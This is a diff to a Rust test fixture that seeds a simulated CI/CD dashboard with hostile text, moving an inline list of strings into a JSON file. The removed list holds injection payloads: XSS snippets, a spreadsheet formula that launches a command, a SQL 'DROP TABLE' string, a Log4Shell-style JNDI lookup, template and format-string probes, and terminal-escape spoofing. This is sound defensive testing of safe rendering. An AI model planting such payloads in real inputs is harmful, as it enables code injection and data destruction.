@@ -2,7 +2,7 @@
 //! right-to-left overrides, `javascript:` links, formulas, names of built-in things, texts of great length.
 //! What shows it must show it as text, lose nothing and run nothing.
 
-use std::sync::Arc;
+use std::sync::{Arc, LazyLock};
 
 use super::{
     World,
@@ -33,21 +33,26 @@ pub const NAMES: [&str; 12] = [
     "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
 ];
 
-/// Texts for commit messages, summaries and errors.
-pub const TEXTS: [&str; 12] = [
-    "<img src=x onerror=\"alert(1)\">",
-    "<script>window.__TAURI__.core.invoke('x')</script>",
-    "</textarea><svg onload=alert(1)>",
-    "\u{1b}[2J\u{1b}[1;31mFAKE: all green\u{1b}[0m",
-    "\u{1b}]8;;javascript:alert(1)\u{7}click\u{1b}]8;;\u{7}",
-    "Revert \u{202e}drow eht esrever\u{202c} and \u{2066}isolate\u{2069}",
-    "[open](javascript:alert(document.domain)) <javascript:alert(1)>",
-    "=cmd|' /C calc'!A0",
-    "'; DROP TABLE resources; --",
-    "${jndi:ldap://example.com/a} {{7*7}} %s%n%x",
-    "Z\u{0351}\u{0363}a\u{0332}\u{0344}l\u{0317}\u{034a}g\u{0329}\u{035b}o 👩‍👩‍👧‍👦 \u{200b}\u{feff}\u{200d}",
-    "first line\r\nsecond line\u{0}with a null\u{2028}third",
-];
+/// Texts for commit messages, summaries and errors: those that the whole product is tried with, here, in the page and on the
+/// desktop.
+pub static TEXTS: LazyLock<Vec<String>> = LazyLock::new(|| {
+    #[derive(serde::Deserialize)]
+    struct Text {
+        text: String,
+        #[serde(default = "once")]
+        times: usize,
+    }
+    fn once() -> usize {
+        1
+    }
+    let read = serde_json::from_str::<Vec<Text>>(include_str!("../../../../tests/hostile.json"));
+    // It is part of the program; that it can be read, a test of this file shows.
+    read.unwrap_or_default().into_iter().map(|Text { text, times }| text.repeat(times)).collect()
+});
+
+fn text(n: usize) -> &'static str {
+    &TEXTS[n % TEXTS.len()]
+}
 
 const ACCOUNT: &str = "111122223333";
 const REGION: &str = "ap-northeast-2";
@@ -60,12 +65,12 @@ impl World {
         world.accounts.add(seed, ACCOUNT, "shop-dev", REGION);
         let place = world.place_or_new(ACCOUNT, REGION);
         world.extra_log = log_lines();
-        world.extra_error = Some(format!(" {} {}", TEXTS[0], TEXTS[3]));
+        world.extra_error = Some(format!(" {} {}", text(0), text(3)));
         for (n, name) in NAMES.into_iter().enumerate() {
             let line = world.add_line(&format!("example-hostile/repository-{n}"), "main", 0);
             let project = format!("hostile-{n:02}-build");
             world.add_project(place, &project, Trade::Node, line, 90 * SECOND, opening - 90 * DAY);
-            world.add_repository(place, line, TEXTS[(n + 1) % TEXTS.len()], opening - 90 * DAY);
+            world.add_repository(place, line, text(n + 1), opening - 90 * DAY);
             let p = world.add_pipeline(
                 place,
                 NewPipeline {
@@ -75,11 +80,11 @@ impl World {
                     structure: Arc::new(structure(n, &project)),
                     since: opening - 30 * DAY,
                     habits: Habits { line, starts_on_push: true, steady: true, ..Habits::default() },
-                    tags: vec![("team", TEXTS[n % TEXTS.len()])],
+                    tags: vec![("team", text(n))],
                 },
             );
             for (k, hours) in [(0, 30), (1, 3)] {
-                let text = TEXTS[(n + k) % TEXTS.len()];
+                let text = text(2 * n + k);
                 let message = if n == 7 { text.repeat(600) } else { text.to_owned() };
                 let author =
                     Author { name: text.chars().take(60).collect(), email: "hostile.demo@example.com".to_owned() };
@@ -113,13 +118,13 @@ fn structure(n: usize, project: &str) -> Structure {
     let variables = vec![VariableDef {
         name: "constructor".to_owned(),
         default: Some(format!("CANARY-hostile-{n}")),
-        description: TEXTS[n % TEXTS.len()].chars().filter(|c| !c.is_control()).collect(),
+        description: text(n).chars().filter(|c| !c.is_control()).collect(),
     }];
     Structure { stages, variables, push_branches: vec!["main".to_owned()] }
 }
 
 fn log_lines() -> Vec<String> {
-    let mut lines: Vec<String> = TEXTS.iter().map(|t| (*t).to_owned()).collect();
+    let mut lines: Vec<String> = TEXTS.clone();
     lines.push("progress 10%\rprogress 90%\r\u{1b}[1A\u{1b}[K\u{7}done".to_owned());
     lines.push("x".repeat(200_000));
     lines.push("가".repeat(30_000));
@@ -142,7 +147,8 @@ mod tests {
     fn every_text_reaches_a_commit_and_a_log() {
         let start = "2026-11-23T05:00:00Z".parse().expect("an instant");
         let world = World::hostile(SimClock::standing(start), 1);
-        for text in TEXTS {
+        assert!(TEXTS.len() >= 20, "{} texts", TEXTS.len());
+        for text in &*TEXTS {
             assert!(world.lines.iter().flat_map(|l| &l.commits).any(|c| c.message.starts_with(text)), "{text:?}");
             assert!(world.extra_log.iter().any(|l| l == text), "{text:?}");
         }
